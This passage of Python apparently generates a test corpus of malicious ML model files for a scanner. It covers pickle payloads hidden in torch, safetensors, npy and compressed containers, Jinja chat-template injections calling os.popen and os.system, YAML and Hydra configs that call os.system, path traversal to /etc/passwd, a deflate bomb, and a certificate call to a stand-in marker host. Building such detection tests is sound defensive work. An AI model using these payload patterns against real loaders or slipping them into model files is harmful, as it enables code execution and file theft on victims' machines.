    case("empty_zip", eocd(0, 0, 0), "an empty zip", "pt", (), "broken")

    # Extensions and names of pickles.
    wrong = {"technique": "wrong extension", "reference": "CVE-2025-10155"}
    for suffix in ("bin", "txt", "png", "safetensors", "gguf", "onnx", "json", "h5", "npy", "zip", "md"):
        add(
            f"ext_pickle.{suffix}",
            PAYLOAD,
            wrong["technique"],
            f"a plain pickle named .{suffix}",
            reference=wrong["reference"],
            symbols=SYSTEM,
        )
        add(
            f"ext_torch_zip.{suffix}",
            torch_zip(PAYLOAD),
            wrong["technique"],
            f"a torch zip named .{suffix}",
            container="torch zip",
            reference=wrong["reference"],
            symbols=SYSTEM,
        )
    inner = {"technique": "pickle with an unusual name in a zip", "reference": "CVE-2025-1889"}
    for name in (
        "weights.bin",
        "config.p",
        "notes.txt",
        "image.png",
        "noextension",
        ".hidden",
        "model.PKL",
        "a.pkl.bak",
        "tokenizer.json",
    ):
        case(
            f"inner_{name}".replace(".", "_"),
            archive([*torch_members(PLAIN), Member(f"archive/{name}", PAYLOAD)]),
            f"a pickle named {name} beside a plain checkpoint",
            **inner,
        )
    case(
        "inner_storage_is_pickle",
        torch_zip(PLAIN, data__0=PAYLOAD),
        "a pickle as the bytes of a storage",
        effect="nested",
        technique="nested pickle",
    )
    case(
        "inner_version_is_pickle",
        torch_zip(PLAIN, version=PAYLOAD),
        "a pickle as `version`",
        effect="nested",
        technique="nested pickle",
    )


BOMB = 900


def deflate_cut(content: bytes) -> bytes:
    """Deflate without its last two bytes."""
    return Member("x", content, DEFLATED).body()[:-2]


def deflate_bomb() -> bytes:
    """A zero byte, then BOMB times a match of 258 bytes at distance 1, with fixed codes."""
    bits = "110" + "00110000"
    for _ in range(BOMB):
        bits += "11000101" + "00000"
    bits += "0000000"
    bits += "0" * (-len(bits) % 8)
    return bytes(int(bits[i : i + 8][::-1], 2) for i in range(0, len(bits), 8))


def torch_files() -> None:
    """Members that torch and its relatives load as code or as pickles."""

    def case(name: str, content: bytes, made: str, symbols: tuple[str, ...] = SYSTEM, **more: object) -> None:
        suffix = str(more.pop("suffix", "pt"))
        add(f"torch_{name}.{suffix}", content, str(more.pop("technique", "payload in a member of a model file")), made,
            container=str(more.pop("container", "torch zip")), symbols=symbols, large=8192, **more)  # fmt: skip

    module = pickle(
        text_global("__torch__", "Model") + EMPTY_TUPLE + NEWOBJ + value({"training": True}) + b"b"
    )
    source = f"class Model(Module):\n  def forward(self, x):\n    # os.system('{CMD}')\n    return x\n"
    code = f"import os\nos.system('{CMD}')\n" + source
    script = archive([
        Member("m/data.pkl", module), Member("m/code/__torch__.py", code.encode()),
        Member("m/constants.pkl", pickle(EMPTY_TUPLE)), Member("m/version", b"3\n"),
    ])  # fmt: skip
    case(
        "script_code",
        script,
        "TorchScript whose code/__torch__.py has os.system in its text",
        ("__torch__:Model",),
        technique="code in a model file",
    )
    debug = archive([
        Member("m/data.pkl", module), Member("m/code/__torch__.py", source.encode()),
        Member("m/code/__torch__.py.debug_pkl", PAYLOAD), Member("m/constants.pkl", pickle(EMPTY_TUPLE)), Member("m/version", b"3\n"),
    ])  # fmt: skip
    case("script_debug_pkl", debug, "payload in code/*.debug_pkl", ("__torch__:Model", *SYSTEM))
    case("constants_pkl", torch_zip(PLAIN, **{"constants.pkl": PAYLOAD}), "payload in constants.pkl")
    case("script_read_file", archive([
        Member("m/data.pkl", module), Member("m/code/__torch__.py", b"def f():\n  return torch.from_file('/etc/hostname', False, 16)\n"),
        Member("m/constants.pkl", pickle(EMPTY_TUPLE)), Member("m/version", b"3\n"),
    ]), "TorchScript that calls torch.from_file", ("__torch__:Model",), technique="code in a model file", effect="file")  # fmt: skip
    case(
        "bytecode_pkl",
        torch_zip(PLAIN, **{"bytecode.pkl": PAYLOAD}),
        "payload in bytecode.pkl of the mobile format",
        suffix="ptl",
    )
    case("extra_files", torch_zip(PLAIN, **{"extra/config.pkl": PAYLOAD}), "payload in extra/")
    case("package", archive([
        Member("p/.data/version", b"6"), Member("p/model/model.pkl", PAYLOAD), Member("p/model.py", code.encode()), Member("p/version", b"6\n"),
    ]), "torch.package: a pickle and source files", technique="code in a model file")  # fmt: skip
    export = archive([
        Member("e/archive_format", b"pt2"), Member("e/archive_version", b"0"), Member("e/byteorder", b"little"),
        Member("e/models/model.json", b"{}"), Member("e/data/sample_inputs/model.pt", torch_zip(PAYLOAD)), Member("e/data/weights/weight_0", FLOATS),
    ])  # fmt: skip
    case(
        "export_sample_inputs",
        export,
        "data/sample_inputs/model.pt inside a .pt2",
        suffix="pt2",
        container="pt2",
    )
    old = archive([
        Member("serialized_exported_program.json", b"{}"), Member("serialized_state_dict.pt", torch_zip(PLAIN)),
        Member("serialized_constants.pt", torch_zip(PAYLOAD)), Member("version", b"5.1"),
    ])  # fmt: skip
    case(
        "export_old_constants",
        old,
        "serialized_constants.pt inside an old .pt2",
        suffix="pt2",
        container="pt2",
    )
    library = archive(
        [
            Member("e/archive_format", b"pt2"),
            Member("e/data/aotinductor/model/model.so", b"\x7fELF" + bytes(60)),
        ]
    )
    case(
        "export_shared_object",
        library,
        "a shared object inside a .pt2",
        (),
        suffix="pt2",
        container="pt2",
        technique="code in a model file",
    )
    case("mar_handler", archive([Member("MAR-INF/MANIFEST.json", b'{"model":{"handler":"handler.py"}}'), Member("handler.py", code.encode()), Member("model.pth", torch_zip(PAYLOAD))]),
         "a TorchServe archive with a handler and a pickle", suffix="mar", container="zip")  # fmt: skip

    hyper = {"_instantiator": "tensafe_marker_must_not_import.run", "lr": 0.1}
    lightning = pickle(value({"epoch": 1, "state_dict": {"weight": tensor()}, "hyper_parameters": hyper}))
    case("lightning_instantiator", torch_zip(lightning), "hyper_parameters holds the text `_instantiator`: Lightning imports and calls it",
         ("torch._utils:_rebuild_tensor_v2",), suffix="ckpt", technique="text that a framework calls", reference="Lightning issue 21822", effect="import")  # fmt: skip
    target = {"model": {"_target_": "os.system", "_args_": [CMD]}}
    case("hydra_target", torch_zip(pickle(value({"state_dict": {"weight": tensor()}, "cfg": target}))), "a configuration with `_target_`: Hydra calls it",
         ("torch._utils:_rebuild_tensor_v2",), suffix="ckpt", technique="text that a framework calls")  # fmt: skip
    case("hparams_name", torch_zip(pickle(value({"state_dict": {"w": tensor()}, "hparams_type": "os.system", "hparams_name": CODE}))), "hyper-parameters by class name",
         ("torch._utils:_rebuild_tensor_v2",), suffix="ckpt", technique="text that a framework calls")  # fmt: skip
    callback = {"state_dict": {"weight": tensor()}, "callbacks": {"EarlyStopping": {"on_save": RUN}}}
    case(
        "callback_state",
        torch_zip(pickle(value(callback))),
        "a call in the state of a callback",
        suffix="ckpt",
    )
    metadata = call("collections", "OrderedDict", [("weight", tensor())]) + value({"_metadata": RUN}) + b"b"
    case("metadata_of_state_dict", torch_zip(pickle(Ops(metadata))), "a call in `_metadata` of a state_dict",
         ("collections:OrderedDict", "torch._utils:_rebuild_tensor_v2", *SYSTEM))  # fmt: skip
    case("hooks_of_tensor", torch_zip(pickle(state(weight=tensor(hooks=RUN)))), "a call in the backward hooks of a tensor",
         ("torch._utils:_rebuild_tensor_v2", *SYSTEM))  # fmt: skip
    with_state = call(
        "torch._utils",
        "_rebuild_parameter_with_state",
        tensor(),
        True,
        Ops(call("collections", "OrderedDict")),
        {"x": RUN},
    )
    case("parameter_state", torch_zip(pickle(value({"weight": Ops(with_state)}))), "a call in the state of a parameter",
         ("torch._utils:_rebuild_parameter_with_state", *SYSTEM))  # fmt: skip
    case("pid_location_call", torch_zip(pickle(state(weight=tensor(store=tuple_of("storage", text_global("torch", "FloatStorage"), "0", RUN, 4) + BINPERSID)))),
         "a call as the location of a storage", ("torch._utils:_rebuild_tensor_v2", "torch:FloatStorage", *SYSTEM))  # fmt: skip
    case("optimizer_state", torch_zip(pickle(value({"model": {"w": tensor()}, "optimizer": {"state": {0: {"step": RUN}}}}))), "a call deep in the state of an optimizer",
         ("torch._utils:_rebuild_tensor_v2", *SYSTEM))  # fmt: skip
    case("whole_module", torch_zip(pickle(text_global("torch.nn.modules.linear", "Linear") + EMPTY_TUPLE + NEWOBJ + value({"weight": tensor()}) + b"b")),
         "a whole module by NEWOBJ and BUILD", ("torch.nn.modules.linear:Linear", "torch._utils:_rebuild_tensor_v2"), effect="deceive")  # fmt: skip
    wrapper = call(
        "torch._utils",
        "_rebuild_wrapper_subclass",
        Ops(text_global("subprocess", "Popen")),
        Ops(text_global("torch", "float32")),
        (2,),
        (1,),
        0,
        Ops(text_global("torch", "strided")),
        "cpu",
        False,
    )
    case(
        "wrapper_subclass",
        torch_zip(pickle(wrapper)),
        "_rebuild_wrapper_subclass with a class that is no tensor",
        ("torch._utils:_rebuild_wrapper_subclass", "subprocess:Popen"),
    )
    case("device_from_numpy", torch_zip(pickle(call("torch._utils", "_rebuild_device_tensor_from_numpy", Ops(RUN), Ops(text_global("torch", "float32")), "cpu", False))),
         "_rebuild_device_tensor_from_numpy of a call", ("torch._utils:_rebuild_device_tensor_from_numpy", *SYSTEM))  # fmt: skip
    case("proto4_in_zip", torch_zip(pickle(stack_global("collections", "OrderedDict") + EMPTY_TUPLE + b"R" + RUN4 + POP, 4)), "a call in a data.pkl of protocol 4",
         ("collections:OrderedDict", *SYSTEM))  # fmt: skip
    sharded = json.dumps({"metadata": {}, "weight_map": {"w": "../../" + PATH + ".bin"}})
    add(
        "pytorch_model.bin.index.json",
        sharded.encode(),
        "path that leaves",
        "an index of shards that points outside",
        "file",
        "json",
    )


def polyglots() -> None:
    """Other formats around, beside or in front of a pickle."""

    def case(
        name: str, content: bytes, made: str, container: str, symbols: tuple[str, ...] = SYSTEM, **more: str
    ) -> None:
        add(
            f"poly_{name}",
            content,
            more.pop("technique", "container that a scanner skips"),
            made,
            container=container,
            symbols=symbols,
            large=8192,
            **more,
        )

    null = {"reference": "NullifAI (ReversingLabs, 2025-02)"}
    case(
        "nullifai.pt",
        seven_zip("archive/data.pkl", pickle(RUN + b"\xff")),
        "a broken pickle in a 7z named .pt",
        "7z",
        **null,
    )
    case(
        "seven_zip_magic_only.pt",
        b"7z\xbc\xaf\x27\x1c\x00\x04" + bytes(24),
        "the magic of 7z and zeros",
        "7z",
        (),
        effect="broken",
    )
    case(
        "seven_zip_then_zip.pt", seven_zip("x", b"y") + torch_zip(PAYLOAD), "a zip behind a 7z", "7z and zip"
    )
    case("rar_magic.pt", b"Rar!\x1a\x07\x01\x00" + PAYLOAD, "the magic of rar, then a pickle", "rar")
    case(
        "fake_png.pt",
        b"\x89PNG\r\n\x1a\n",
        "the magic of PNG alone",
        "png",
        (),
        effect="broken",
        reference="picklescan bad_pytorch",
    )
    case(
        "safetensors_then_pickle.safetensors",
        safetensors({}) + PAYLOAD,
        "a pickle behind an empty safetensors",
        "safetensors",
        reference="CVE-2025-10155",
    )
    case(
        "safetensors_metadata_pickle.safetensors",
        safetensors({"__metadata__": {"blob": base64.b64encode(PAYLOAD).decode()}}),
        "a pickle in base64 in the metadata",
        "safetensors",
        effect="nested",
    )
    case(
        "safetensors_tensor_is_pickle.safetensors",
        safetensors(
            {"a": {"dtype": "U8", "shape": [len(PAYLOAD)], "data_offsets": [0, len(PAYLOAD)]}}, PAYLOAD
        ),
        "a pickle as the bytes of a tensor",
        "safetensors",
        effect="nested",
    )
    case(
        "npy_then_pickle.npy",
        npy(struct.pack("<2f", 1, 2), "<f4", (2,)) + PAYLOAD,
        "a pickle behind a plain npy",
        "npy",
    )
    case("npy_says_object_twice.npy", npy(PAYLOAD, "|O", (3, 3)), "an object array of shape (3, 3)", "npy")
    case(
        "npy_structured_object.npy",
        npy(PAYLOAD, "[('a','|O')]", (1,)),
        "a structured array with a field of objects",
        "npy",
    )
    case(
        "npy_header_code.npy",
        npy(b"", f"<f4', 'x': {CODE}, 'y': '", (0,)),
        "code in the header of npy",
        "npy",
        (),
    )
    case("npy_version_2.npy", npy(PAYLOAD, version=2), "npy 2.0 with an object array", "npy")
    case("npy_version_9.npy", npy(PAYLOAD, version=9), "npy 9.0 with an object array", "npy")
    case(
        "npy_header_4gib.npy",
        b"\x93NUMPY\x02\x00\xff\xff\xff\xff" + PAYLOAD,
        "npy 2.0 whose header claims 4 GiB",
        "npy",
        effect="dos",
    )
    case(
        "npy_shape_huge.npy",
        npy(b"", "<f8", (2**40, 2**40)),
        "npy with a shape of 2^80",
        "npy",
        (),
        effect="dos",
    )
    case(
        "npy_shape_negative.npy",
        npy(b"", "<f8", (-1,)),
        "npy with a negative shape",
        "npy",
        (),
        effect="memory",
    )
    case(
        "npz_hidden_object.npz",
        npz({"a.npy": npy(struct.pack("<2f", 1, 2), "<f4", (2,)), "b.npy": npy(PAYLOAD)}),
        "an npz with a plain and an object array",
        "npz",
    )
    case(
        "npz_pickle_member.npz",
        npz({"a.npy": npy(struct.pack("<2f", 1, 2), "<f4", (2,)), "meta.pkl": PAYLOAD}),
        "a pickle beside arrays in an npz",
        "npz",
    )
    case("dns_exfiltration.npy", npy(pickle(call("ssl", "get_server_certificate", ("tensafe-marker.invalid", 443)))), "ssl.get_server_certificate in an object array", "npy",
         ("ssl:get_server_certificate",), effect="network", reference="CVE-2025-46417", technique="callable that lists of forbidden names forget")  # fmt: skip
    case("gzip_trailing_pickle.pkl.gz", gzip(pickle(NONE)) + PAYLOAD, "a pickle behind the gzip", "gzip")
    case(
        "gzip_two_members.pkl.gz", gzip(pickle(NONE)) + gzip(PAYLOAD), "two members of gzip in a row", "gzip"
    )
    case("gzip_bad_crc.pkl.gz", gzip(PAYLOAD)[:-8] + bytes(8), "gzip with a wrong sum", "gzip")
    case("gzip_cut.pkl.gz", gzip(PAYLOAD)[:-6], "gzip that is cut", "gzip")
    case("gzip_named_pkl.pkl", gzip(PAYLOAD), "gzip named .pkl", "gzip")
    case("zlib_named_joblib.joblib", zlib_stream(PAYLOAD), "zlib named .joblib", "zlib")
    case("bz2_named_joblib.joblib", bzip2(PAYLOAD), "bzip2 named .joblib", "bz2")
    case("xz_named_joblib.joblib", xz(PAYLOAD), "xz named .joblib", "xz")
    case("lzma_named_joblib.joblib", lzma_alone(PAYLOAD), "lzma named .joblib", "lzma")
    case("lz4_named_joblib.joblib", lz4(PAYLOAD), "lz4 named .joblib", "lz4")
    case(
        "pickle_then_zip.pt",
        PAYLOAD + archive(torch_members(PLAIN)),
        "a pickle, then a zip whose offsets do not count it",
        "zip",
    )
    case("tar_then_zip.pt", tar({"pickle": PAYLOAD}) + torch_zip(PLAIN), "a tar, then a zip", "tar and zip")
    case(
        "zip_in_tar_header.pt",
        tar({"a.txt": b"x" * 10})[:1024] + archive(torch_members(PAYLOAD), shift=1024),
        "a tar whose end is a zip",
        "tar and zip",
    )
    case(
        "elf.bin",
        b"\x7fELF\x02\x01\x01" + bytes(57) + CMD.encode(),
        "an ELF head named .bin",
        "elf",
        (),
        technique="code named as weights",
    )
    case(
        "shell.bin",
        f"#!/bin/sh\n{CMD}\n".encode(),
        "a shell script named .bin",
        "text",
        (),
        technique="code named as weights",
    )
    case(
        "python.pt",
        f"import os\nos.system('{CMD}')\n".encode(),
        "Python named .pt",
        "text",
        (),
        technique="code named as weights",
    )
    case(
        "hdf5_magic_with_lambda.h5",
        b"\x89HDF\r\n\x1a\n" + json.dumps(keras_config()).encode(),
        "the magic of HDF5 and a Lambda layer as text",
        "hdf5",
        (),
        technique="Lambda layer",
    )
    case(
        "rds_magic.rds",
        gzip(b"X\n\x00\x00\x00\x03"),
        "the magic of R's serialization in gzip",
        "gzip",
        (),
        effect="deceive",
    )


def truncated() -> None:
    """Files that end too early, or hold only the beginning of what they say."""

    def case(
        name: str,
        content: bytes,
        made: str,
        container: str,
        effect: str = "broken",
        symbols: tuple[str, ...] = (),
    ) -> None:
        add(f"cut_{name}", content, "file that ends too early", made, effect, container, symbols=symbols)

    whole = {
        "torch_zip.pt": torch_zip(PLAIN), "torch_legacy.pth": torch_legacy(LEGACY), "torch_tar.pt": torch_tar(),
        "npz.npz": npz({"a.npy": npy(FLOATS, "<f4", (4,))}), "npy.npy": npy(FLOATS, "<f4", (4,)),
        "gzip.pkl.gz": gzip(PLAIN), "bz2.pkl.bz2": bzip2(PLAIN), "xz.pkl.xz": xz(PLAIN), "lz4.pkl.lz4": lz4(PLAIN),
        "zstd.pkl.zst": zstd(PLAIN), "seven_zip.7z": seven_zip("a.pkl", PLAIN), "pickle.pkl": PLAIN,
        "safetensors.safetensors": safetensors({"a": {"dtype": "F32", "shape": [4], "data_offsets": [0, 16]}}, FLOATS),
        "joblib.joblib": b"\x80\x04" + joblib_array(FLOATS) + STOP,
    }  # fmt: skip
    for name, content in whole.items():
        stem, _, suffix = name.partition(".")
        for percent in (10, 50, 90):
            end = len(content.rstrip(b"\0")) * percent // 100
            case(
                f"{stem}_{percent}.{suffix}",
                content[:end],
                f"{percent} of 100 of its bytes",
                stem.replace("_", " "),
            )
    five = [pickle(value(MAGIC)), pickle(value(1001)), pickle(value(SYS_INFO)), PAYLOAD]
    for count in range(1, 5):
        symbols = SYSTEM if count == 4 else ()
        case(f"legacy_after_{count}.pth", b"".join(five[:count]), f"a legacy stream that ends after pickle {count}", "torch legacy stream",
             "exec" if symbols else "broken", symbols)  # fmt: skip
    case("data_pkl_empty.pt", torch_zip(b""), "data.pkl is empty", "torch zip")
    case("data_pkl_is_text.pt", torch_zip(b"weights\n"), "data.pkl is text", "torch zip")
    case("data_pkl_is_zip.pt", torch_zip(torch_zip(PLAIN)), "data.pkl is a torch zip", "torch zip")
    case("data_pkl_missing.pt", archive(torch_members(PLAIN)[1:]), "no data.pkl", "torch zip")
    case("version_missing.pt", archive(torch_members(PLAIN)[:3]), "no version", "torch zip")
    case("npy_magic_alone.npy", b"\x93NUMPY", "the magic of npy", "npy")
    case(
        "npy_header_not_a_dict.npy",
        npy(b"").replace(b"{'descr'", b"['descr'"),
        "the header of npy is no dict",
        "npy",
    )
    case(
        "npy_header_missing_key.npy",
        npy(b"").replace(b"'shape'", b"'shade'"),
        "the header of npy has no shape",
        "npy",
    )


def keras_config() -> dict[str, object]:
    marshalled = base64.b64encode(b"not marshalled: " + CMD.encode()).decode()
    function = {"class_name": "__lambda__", "config": {"code": marshalled, "defaults": None, "closure": None}}
    layer = {
        "module": "keras.layers",
        "class_name": "Lambda",
        "config": {"name": "lambda", "function": function},
    }
    return {"module": "keras", "class_name": "Sequential", "config": {"name": "m", "layers": [layer]}}


def text() -> None:
    """Configuration that a loader runs or that names what to run."""

    def case(
        name: str,
        content: object,
        made: str,
        technique: str,
        container: str = "json",
        reference: str = "",
        effect: str = "exec",
    ) -> None:
        raw = content if isinstance(content, bytes) else json.dumps(content).encode()
        add(name, raw, technique, made, effect, container, reference)

    def keras(config: object, **more: bytes) -> bytes:
        meta = json.dumps({"keras_version": "3.0.0", "date_saved": "2025-01-01@00:00:00"}).encode()
        members = {
            "metadata.json": meta,
            "config.json": json.dumps(config).encode(),
            "model.weights.h5": b"\x89HDF\r\n\x1a\n",
        } | more
        return archive([Member(name.replace("__", "."), content) for name, content in members.items()])

    case(
        "lambda_layer.keras",
        keras(keras_config()),
        "a .keras zip with a Lambda layer",
        "Lambda layer",
        "keras zip",
        "CVE-2024-3660",
    )
    other = {"module": "os", "class_name": "function", "config": "system", "registered_name": "function"}
    case(
        "module_field.keras",
        keras(other),
        "a .keras zip whose config names module os",
        "Lambda layer",
        "keras zip",
        "CVE-2025-1550",
    )
    case(
        "pickle_member.keras",
        keras({}, data__pkl=PAYLOAD),
        "a pickle inside a .keras zip",
        "payload in a member of a model file",
        "keras zip",
    )
    reach = "{{ ''.__class__.__mro__[1].__subclasses__() }}"
    ssti = (
        "{% for x in ().__class__.__base__.__subclasses__() %}{% if 'warning' in x.__name__ %}{{ x()._module.__builtins__['__import__']('os').popen('"
        + CMD
        + "') }}{% endif %}{% endfor %}"
    )
    for label, template in {
        "mro": reach, "subclasses": ssti,
        "globals": "{{ cycler.__init__.__globals__.os.popen('" + CMD + "').read() }}",
        "attr_filter": "{{ ()|attr('__class__')|attr('__base__') }}",
        "hex_escape": "{{ ()['\\x5f\\x5fclass\\x5f\\x5f'] }}",
        "concatenated": "{{ ()['__cla' ~ 'ss__'] }}",
        "lipsum": "{{ lipsum.__globals__['os'].system('" + CMD + "') }}",
        "self": "{{ self._TemplateReference__context.cycler.__init__.__globals__ }}",
        "namespace": "{{ namespace.__init__.__globals__.os.system('" + CMD + "') }}",
        "include": "{% include '/etc/passwd' %}",
        "endless": "{% for a in range(10**9) %}{% for b in range(10**9) %}{% endfor %}{% endfor %}",
    }.items():  # fmt: skip
        case(f"chat_template_{label}.tokenizer_config.json", {"tokenizer_class": "LlamaTokenizer", "chat_template": template},
             "a chat_template that reaches for attributes", "template that runs code", reference="CVE-2024-34359")  # fmt: skip
    listed = [{"name": "default", "template": "{{ messages }}"}, {"name": "tool_use", "template": ssti}]
    case(
        "chat_template_list.tokenizer_config.json",
        {"chat_template": listed},
        "the second template of a list",
        "template that runs code",
        reference="CVE-2024-34359",
    )
    case(
        "chat_template.jinja",
        ssti.encode(),
        "a template in a file of its own",
        "template that runs code",
        "text",
        "CVE-2024-34359",
    )
    case(
        "chat_template.gguf",
        gguf({"general.architecture": "llama", "tokenizer.chat_template": ssti}),
        "a chat_template in a GGUF",
        "template that runs code",
        "gguf",
        "CVE-2024-34359",
    )
    remote = {"AutoModel": "modeling_evil.Evil", "AutoConfig": "tensafe-marker/other--config.Cfg"}
    case(
        "auto_map.config.json",
        {"model_type": "evil", "auto_map": remote},
        "auto_map names code of the repository and of another one",
        "configuration that names code",
        effect="import",
    )
    case(
        "auto_map.tokenizer_config.json",
        {"auto_map": {"AutoTokenizer": ["tok.T", None]}},
        "auto_map of a tokenizer",
        "configuration that names code",
        effect="import",
    )
    pipelines = {"evil": {"impl": "pipe.Evil", "pt": ["AutoModel"]}}
    case(
        "custom_pipelines.config.json",
        {"custom_pipelines": pipelines},
        "custom_pipelines names code",
        "configuration that names code",
        effect="import",
    )
    case(
        "diffusers.model_index.json",
        {"_class_name": ["pipeline", "Evil"], "unet": ["modeling_evil", "Evil"]},
        "model_index.json names modules",
        "configuration that names code",
        effect="import",
    )
    case(
        "transform.config.yaml",
        f"model: !!python/object/apply:os.system ['{CMD}']\n".encode(),
        "a YAML tag that calls",
        "configuration that names code",
        "text",
    )
    case(
        "target.config.yaml",
        f"_target_: os.system\n_args_: ['{CMD}']\n".encode(),
        "_target_ for Hydra",
        "configuration that names code",
        "text",
    )
    case(
        "modules.json",
        [{"idx": 0, "name": "0", "path": "", "type": "os.system"}],
        "modules.json of sentence-transformers names a callable",
        "configuration that names code",
        effect="import",
    )
    fallback = (
        "import torch\n\n\ndef load(path):\n    try:\n        return torch.load(path, weights_only=True)\n"
        "    except Exception:\n        return torch.load(path, weights_only=False)\n"
    )
    case(
        "fallback.py",
        fallback.encode(),
        "Python beside weights that falls back to weights_only=False",
        "code that loads by pickle after all",
        "text",
        "Stanza",
    )
    onnx = b"\x08\x08" + b"\x12\x04evil" + b"location\x12\x0f../../etc/passwd"
    case(
        "external_data.onnx",
        onnx,
        "an ONNX whose external data points outside",
        "path that leaves",
        "onnx",
        "CVE-2024-27318",
        "file",
    )
